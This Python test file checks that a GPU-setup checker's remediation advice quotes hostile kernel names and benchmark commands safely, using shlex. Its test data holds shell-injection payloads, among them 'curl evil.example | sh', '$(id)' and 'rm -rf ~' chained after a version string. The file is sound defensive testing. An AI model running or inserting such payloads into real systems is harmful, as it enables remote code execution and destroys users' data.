"""What a finding advises is pasted by people, some of it at once: no word of a host is a command in it."""

from __future__ import annotations

import dataclasses
import shlex

import pytest
from builders import finished_snapshot, resolved
from throughputrecords import judged, series, step

from gpuprep import checks, records

COMMANDS = ("6.1; curl evil.example | sh", "$(id)", "`id`", "6.1 && rm -rf ~", "6.1\n rm -rf ~", "-k; id")
WANTED = resolved("t4")


@pytest.mark.parametrize("name", COMMANDS)
def test_the_name_of_a_kernel(name: str) -> None:
    good = finished_snapshot(WANTED)
    built = tuple(records.DkmsModule(m.module, m.version, "5.10.0", "built") for m in good.driver.dkms)
    unsigned = records.ModuleSignature("/lib/modules/nvidia.ko", name, None, None, None, None)
    odd = dataclasses.replace(
        good,
        kernel=dataclasses.replace(good.kernel, running=name, next_boot=name, secure_boot=True),
        driver=dataclasses.replace(good.driver, dkms=built),
        signatures=records.SignatureFacts((unsigned,), (), False),
    )
    advice = [finding.remedy for finding in checks.compare(WANTED, odd)]
    quoting = [text for text in advice if name in text]
    assert quoting, "the advice to sign a module again names the kernel"
    for text in quoting:
        assert name in shlex.split(text.partition(": `")[2].partition("`; enrol")[0])


@pytest.mark.parametrize("name", COMMANDS)
def test_the_command_of_a_series(name: str) -> None:
    dead = series("decode", "h264", step(1, 0.0, died=1, died_because="odd"), command=name, outcome="failed")
    found = judged("t4", dead).values()
    assert any(finding.status.value == "FAIL" for finding in found)
    assert not any(name in finding.remedy for finding in found)
